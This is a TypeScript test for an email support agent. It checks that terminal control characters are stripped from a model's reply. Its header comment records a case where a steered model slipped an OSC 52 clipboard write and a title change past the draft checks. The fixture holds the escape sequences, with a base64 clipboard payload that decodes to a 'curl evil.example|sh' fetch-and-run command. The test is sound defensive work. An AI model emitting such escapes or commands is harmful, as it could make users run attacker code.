/**
 * Security review 17: the model's final answer is stored and sent without control characters. A steered model wrote
 * an OSC 52 clipboard write and a window-title change; they went out in the reply as written, reached the terminal of
 * whoever printed it (the sandbox did), and a backspace inside an account number hid it from the draft checks.
 * Real servers: redis-server, the SMTP receiver, the scripted model, the agent worker and the sender.
 */
import { expect, it } from 'vitest';
import { textResponse } from '../../src/dev/openai-server.js';
import { scriptedModel } from '../../src/dev/scripted-model.js';
import { buildMail, customerMessageId, ingest, isFinalAnswer, waitForState } from '../support/pipeline.js';
import { pipelineSuite } from '../support/pipeline-suite.js';

const suite = pipelineSuite();

it('sends the answer without escape sequences or other controls, keeping its line breaks and tabs', async () => {
  const base = scriptedModel({});
  const answer = 'パスワードは8文字以上で、\n英字と数字を含めてください。\t以上です。\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b]0;hacked\u0007\u0085';
  suite.servers.llm.setHandler((req) => (isFinalAnswer(req) ? textResponse(answer) : base(req)));
  const running = await suite.run({ REVIEW_MODE: 'auto', REPEATED_QUESTION_HOURS: '0' });
  const { ticketId } = await ingest(running, buildMail({ messageId: customerMessageId('controls'), from: 'Taro <taro@customer.example>', subject: 'パスワード', body: 'パスワードの条件を教えてください。' }));
  const done = await waitForState(running.store, ticketId, ['sent', 'parked', 'failed']);
  expect(done.state, done.reason).toBe('sent');
  expect(done.draft).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  const [reply] = await suite.servers.smtp.waitFor(1);
  expect(reply!.text).not.toMatch(/\u001b|\u0007/);
  expect(reply!.text).toContain('パスワードは8文字以上で、\n英字と数字を含めてください。\t以上です。]52;c;');
});
